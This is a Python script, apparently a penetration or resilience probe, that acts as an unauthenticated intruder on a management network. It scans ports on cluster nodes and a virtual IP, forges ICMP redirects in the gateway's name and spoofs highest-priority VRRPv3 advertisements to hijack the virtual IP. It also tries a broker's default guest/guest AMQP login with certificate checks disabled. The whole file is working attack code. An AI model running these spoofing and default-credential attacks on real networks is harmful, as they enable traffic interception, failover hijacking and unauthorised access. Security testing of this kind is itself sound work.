"""What somebody tries who has a place on the management network and no account: `stranger.py PLAN`, prints JSON.

PLAN: {"own": ADDRESS, "gateway": ADDRESS, "nodes": [ADDRESS...], "vip": ADDRESS, "router_id": N, "tcp": [PORT...],
"behind": [PORT...]}; those behind a virtual IP are tried on the nodes alone.
"""

from __future__ import annotations

import json
import socket
import ssl
import struct
import sys
import time
from collections.abc import Iterable

PATIENCE_SECONDS = 1.0
ROUNDS = 30
EVERYWHERE = "224.0.0.18"
"""VRRP's multicast address (RFC 5798)."""


def answering(nodes: Iterable[str], ports: Iterable[int]) -> list[str]:
    """Where somebody accepts a connection."""
    found = []
    for node in nodes:
        for port in ports:
            try:
                with socket.create_connection((node, port), PATIENCE_SECONDS):
                    found.append(f"{node}:{port}")
            except OSError:
                continue
    return found


def _checksum(data: bytes) -> int:
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def _packet(source: str, target: str, protocol: int, ttl: int, inner: bytes) -> bytes:
    ends = socket.inet_aton(source) + socket.inet_aton(target)
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(inner), 0, 0, ttl, protocol, 0) + ends
    return head + inner


def _advertisement(source: str, target: str, router_id: int, vip: str) -> bytes:
    """VRRPv3 with the highest priority, every 0.3 s."""
    body = struct.pack("!BBBBHH", 0x31, router_id, 255, 1, 30, 0) + socket.inet_aton(vip)
    pseudo = socket.inet_aton(source) + socket.inet_aton(target) + struct.pack("!BBH", 0, 112, len(body))
    return body[:6] + struct.pack("!H", _checksum(pseudo + body)) + body[8:]


def advertise(plan: dict[str, object], nodes: list[str]) -> None:
    """As itself, to each node and to everybody; and as each node to the others, through a router that lowers the TTL."""
    own, vip, router_id = str(plan["own"]), str(plan["vip"]), int(str(plan["router_id"]))
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        for _ in range(ROUNDS):
            for target in (*nodes, EVERYWHERE):
                raw.sendto(_packet(own, target, 112, 255, _advertisement(own, target, router_id, vip)), (target, 0))
            for source in nodes:
                for target in nodes:
                    body = _advertisement(source, target, router_id, vip)
                    raw.sendto(_packet(source, target, 112, 254, body), (target, 0))
            time.sleep(0.1)


def redirect(plan: dict[str, object], nodes: list[str]) -> None:
    """Says in the gateway's name that this machine is the better way to everywhere (RFC 792, type 5)."""
    own, gateway = str(plan["own"]), str(plan["gateway"])
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        for node in nodes:
            asked = _packet(node, "198.18.0.99", 17, 64, struct.pack("!HHHH", 1024, 53, 8, 0))
            body = struct.pack("!BBH", 5, 1, 0) + socket.inet_aton(own) + asked
            body = body[:2] + struct.pack("!H", _checksum(body)) + body[4:]
            raw.sendto(_packet(gateway, node, 1, 255, body), (node, 0))


def broker(node: str) -> str:
    """What the broker makes of its default account: nothing, or the name of what it sends after the login."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    table = b"\x00\x00\x00\x00"
    words = [b"PLAIN", b"\x00guest\x00guest", b"en_US"]
    login = struct.pack("!HH", 10, 11) + table + struct.pack("!B", 5) + words[0]
    login += struct.pack("!I", len(words[1])) + words[1] + struct.pack("!B", 5) + words[2]
    try:
        with (
            socket.create_connection((node, 5671), 5) as plain,
            context.wrap_socket(plain) as connection,
        ):
            connection.sendall(b"AMQP\x00\x00\x09\x01")
            connection.recv(65536)
            connection.sendall(struct.pack("!BHI", 1, 0, len(login)) + login + b"\xce")
            answer = connection.recv(65536)
    except OSError:
        return ""
    if len(answer) < 11:
        return ""
    kind, method = struct.unpack("!HH", answer[7:11])
    return "" if (kind, method) == (10, 50) else f"method {kind}.{method}"  # 10.50 closes the connection


def main() -> None:
    """Tries all of it."""
    plan = json.loads(sys.argv[1])
    nodes = [str(node) for node in plan["nodes"]]
    found = {
        "answering": answering([*nodes, str(plan["vip"])], plan["tcp"]) + answering(nodes, plan["behind"]),
        "broker": [node for node in nodes if broker(node)],
    }
    redirect(plan, nodes)
    advertise(plan, nodes)
    print(json.dumps(found))


if __name__ == "__main__":
    main()
